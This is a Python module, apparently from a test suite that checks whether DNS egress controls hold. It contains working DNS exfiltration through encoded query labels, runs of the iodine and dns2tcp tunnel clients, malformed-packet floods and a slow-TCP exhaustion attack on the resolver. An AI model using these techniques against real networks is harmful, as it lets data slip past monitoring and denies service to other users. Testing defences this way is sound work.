"""Attacks by names: queries that leave, tunnels, odd messages and odd names."""

import base64
import os
import select
import shutil
import socket
import struct
import subprocess
import time

from attack_parts import TIMEOUT, Missing, Said, family
from attack_tls import fetch


def query(name, kind, number=0x1234):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.strip(".").split(".")) + b"\0"
    return struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", kind, 1)


def resolver(host):
    """`system`: whoever resolv.conf names."""
    if host != "system":
        return host
    with open("/etc/resolv.conf") as f:
        return next(l.split()[1] for l in f if l.startswith("nameserver"))


def judged(answer):
    """An answer with records in it is a way to bring data in."""
    if answer.startswith(b"CANARY"):
        return "reached"
    if len(answer) < 12:
        return Said("refused", f"{len(answer)} bytes")
    flags, _, answers = struct.unpack("!HHH", answer[2:8])
    return Said("done" if answers else "refused", f"rcode {flags & 15}, {answers} answers")


def dns_udp(host, port, name, kind):
    host = resolver(host)
    s = socket.socket(family(host), socket.SOCK_DGRAM)
    s.settimeout(TIMEOUT)
    s.sendto(query(name, int(kind)), (host, int(port)))
    return judged(s.recv(4096))


def dns_tcp(host, port, name, kind):
    host = resolver(host)
    s = socket.create_connection((host, int(port)), TIMEOUT)
    s.settimeout(TIMEOUT)
    message = query(name, int(kind))
    s.sendall(struct.pack("!H", len(message)) + message)
    return judged(s.recv(4096)[2:])


def lookup(name):
    """As every program does it, by the C library."""
    try:
        return Said("sent", socket.getaddrinfo(name, 443)[0][4][0])
    except socket.gaierror as error:
        return Said("sent", str(error))


def labels(suffix):
    """A secret in the labels of a name."""
    data = base64.b32encode(os.urandom(90)).decode().strip("=").lower()
    name = ".".join(data[i : i + 60] for i in range(0, len(data), 60))
    return lookup(f"{name}.{suffix}")


def tunnel(suffix):
    """What iodine and dns2tcp do: upstream data in labels, answers in NULL, TXT and CNAME."""
    wins = []
    for kind in (10, 16, 5, 15, 33, 65399):
        data = base64.b32encode(os.urandom(30)).decode().strip("=").lower()
        try:
            said = dns_udp("system", "53", f"{data}.{suffix}", str(kind))
        except OSError:
            continue
        if not isinstance(said, Said) or said.kind == "done":
            wins.append(str(kind))
    return Said("done" if wins else "refused", f"answered: {wins}")


def session(words, sign):
    """A client of a tunnel; `done` if it says that it has a session."""
    if not shutil.which(words[0]):
        raise Missing(f"no {words[0]}")
    client = subprocess.Popen(
        words, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    data, end = b"", time.monotonic() + TIMEOUT * 8
    while sign.encode() not in data and time.monotonic() < end:
        if select.select([client.stdout], [], [], 0.1)[0]:
            more = os.read(client.stdout.fileno(), 4096)
            if not more:
                break
            data += more
    client.kill()
    last = data.decode(errors="replace").strip().splitlines()[-1:]
    return Said("done" if sign.encode() in data else "refused", " ".join(last))


def iodine(server, domain):
    words = ["iodine", "-f", "-r", "-P", "attack", "-T", "TXT", "-m", "200", server, domain]
    return session(words, "Connection setup complete")


def dns2tcp(server, domain):
    return session(["dns2tcpc", "-z", domain, server], "Available connection")


ODD_MESSAGES = [
    b"",
    b"\0",
    b"\xff" * 16,
    bytes.fromhex("0001010000010000000000000cc00c00010001"),
    bytes.fromhex("000101000001000000000000c00c00010001"),
    query("a.example", 1)[:-3],
    query("a.example", 1)[:4] + b"\xff\xff" * 4 + query("a.example", 1)[12:],
    query("a.example", 1) + b"\0" * 60000,
]


def odd_messages(host, dial):
    """Malformed messages; then an ordinary request must still be served."""
    target = resolver(host)
    for message in ODD_MESSAGES:
        s = socket.socket(family(target), socket.SOCK_DGRAM)
        s.settimeout(0.1)
        try:
            s.sendto(message, (target, 53))
            s.recv(4096)
        except OSError:
            pass
    return still_served(dial)


def slow_tcp(host, dial):
    """Many connections to the resolver that stop after half a message."""
    target, open_ones = resolver(host), []
    for _ in range(40):
        try:
            s = socket.create_connection((target, 53), TIMEOUT)
            s.sendall(struct.pack("!H", 500) + b"half")
            open_ones.append(s)
        except OSError:
            break
    return still_served(dial)


def still_served(dial):
    """`done` is harm: somebody else is not served any more."""
    socket.getaddrinfo("api.test", 443)
    status, _ = fetch(dial, "api.test", "GET", "/served")
    served = status == 200
    return Said("refused" if served else "done", f"then status {status}", served)
